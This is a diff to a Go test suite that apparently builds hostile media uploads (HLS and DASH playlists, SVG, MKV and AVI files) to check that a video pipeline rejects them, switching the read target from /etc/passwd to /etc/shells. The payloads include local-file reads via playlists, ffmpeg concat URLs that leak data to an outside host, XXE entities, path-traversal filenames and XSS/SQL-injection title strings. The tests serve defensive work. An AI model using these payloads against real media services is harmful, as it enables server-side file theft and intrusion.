@@ -13,7 +13,7 @@ func hostile() []Input {
 	return []Input{
 		{"near-list.mp4", Hostile, fails("not-a-video"), text(playlist(segment+"neighbour.ts", "#EXT-X-ENDLIST"))},
 		{"far-list.avi", Hostile, fails("not-a-video"), text(playlist(segment+"{dir}/neighbour.ts", "#EXT-X-ENDLIST"))},
-		{"passwords.mp4", Hostile, fails("not-a-video"), text(playlist(segment+"file:///etc/passwd", "#EXT-X-ENDLIST"))},
+		{"passwords.mp4", Hostile, fails("not-a-video"), text(playlist(segment+"file:///etc/shells", "#EXT-X-ENDLIST"))},
 		{"concat-list.mp4", Hostile, fails("not-a-video"), text(playlist(segment+"concat:http://{host}/leak?|file:{dir}/neighbour.ts", "#EXT-X-ENDLIST"))},
 		{"subfile-list.mp4", Hostile, fails("not-a-video"), text(playlist(segment+"subfile,,start,0,end,200,,:{dir}/neighbour.ts", "#EXT-X-ENDLIST"))},
 		{"loopback-list.mkv", Hostile, fails("not-a-video"), text(playlist(segment+"http://{host}/seg.ts", "#EXT-X-ENDLIST"))},
@@ -33,7 +33,7 @@ func hostile() []Input {
 		{"dash-net.mp4", Hostile, fails("not-a-video"), text(dash("", "http://{host}/v.mp4"))},
 		{"dash-entity.mp4", Hostile, fails("not-a-video"), text(dash(`<!DOCTYPE MPD [<!ENTITY x SYSTEM "file://{dir}/neighbour.ts"><!ENTITY y SYSTEM "http://{host}/x">]>`, "&x;&y;"))},
 		{"session.mp4", Hostile, fails("not-a-video"), text("v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 18098 RTP/AVP 96\na=rtpmap:96 H264/90000\n")},
-		{"drawing.svg", Hostile, fails("not-a-video"), text(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><text>&x;</text><image xlink:href="http://{host}/i.png"/><script>alert(1)</script></svg>`)},
+		{"drawing.svg", Hostile, fails("not-a-video"), text(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/shells">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><text>&x;</text><image xlink:href="http://{host}/i.png"/><script>alert(1)</script></svg>`)},
 		{"x%d.png", Hostile, fails("not-media"), copied("part.png")},
 		{"terminal.mp4", Hostile, fails("not-a-video"), text("\x1b[2J\x1b[31mred\n" + strings.Repeat("text art \x1b[0m\n", 200))},
 		{"text-art.mp4", Hostile, fails("not-media"), written(append([]byte("XBIN\x1a\xff\xff\xff\xff\x10\x00"), noise(3000)...))},
@@ -42,7 +42,7 @@ func hostile() []Input {
 		{"attachment.mkv", Hostile, film(160, 90, 50, "25"), encoded("-i {control.mp4} -attach {part.ttf} -metadata:s:t mimetype=application/x-truetype-font -metadata:s:t filename=../../../../tmp/evil.ttf -c copy")},
 		{"title.mp4", Hostile, film(160, 90, 50, "25"), titled("\"><img src=x onerror=alert(1)>\x1b[31m\nINJECTED \u202egnp.exe'; DROP TABLE videos;--{{7*7}}${7*7}<%=7*7%>")},
 		{"long-title.mp4", Hostile, film(160, 90, 50, "25"), titled(strings.Repeat("A", 100_000))},
-		{"language.mkv", Hostile, film(160, 90, 50, "25"), encoded("-i {control.mp4} -c copy -metadata:s:a:0 language=../../x -metadata:s:a:0 title=<b>\",URI=\"file:///etc/passwd")},
+		{"language.mkv", Hostile, film(160, 90, 50, "25"), encoded("-i {control.mp4} -c copy -metadata:s:a:0 language=../../x -metadata:s:a:0 title=<b>\",URI=\"file:///etc/shells")},
 		{"huge-png.mov", Hostile, fails("no-picture-size"), encoded("-i {part-large.png} -c copy -f mov")},
 		{"huge.mp4", Hostile, fails("not-media"), encoded("-f lavfi -i color=black:s=16384x8704:r=1:d=1,format=yuv420p -frames:v 1" + x264 + "-x264-params log-level=none")},
 		{"huge.gif", Hostile, fails("not-media"), written(hugeCanvas())},
@@ -84,7 +84,7 @@ func titled(title string) recipe {
 // reference says that its media lie in another file.
 func reference(b []byte) []byte {
 	old := tag(b, "url ", 0) - 4
-	alias := box("alis", be32(0), zeros(150), []byte("\x00\x02\x00\x0b/etc/passwd\x00\xff\xff\x00\x00"))
+	alias := box("alis", be32(0), zeros(150), []byte("\x00\x02\x00\x0b/etc/shells\x00\xff\xff\x00\x00"))
 	grow := uint32(len(alias) - 12)
 	for _, kind := range []string{"moov", "trak", "mdia", "minf", "dinf", "dref"} {
 		at := tag(b, kind, 0) - 4
@@ -96,7 +96,7 @@ func reference(b []byte) []byte {
 // subtitleList hides a playlist in what an AVI shows as a subtitle: the first
 // piece of sound becomes one.
 func subtitleList(b []byte) []byte {
-	list := []byte("GAB2\x00\x02\x00\x00\x00\x00\x00\x04\x00\x60\x00\x00\x00#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n")
+	list := []byte("GAB2\x00\x02\x00\x00\x00\x00\x00\x04\x00\x60\x00\x00\x00#EXTM3U\n#EXTINF:1,\nfile:///etc/shells\n#EXT-X-ENDLIST\n")
 	at := tag(b, "movi", 0)
 	at += tag(b[at:], "01wb", 0)
 	size := int(b[at+4]) | int(b[at+5])<<8
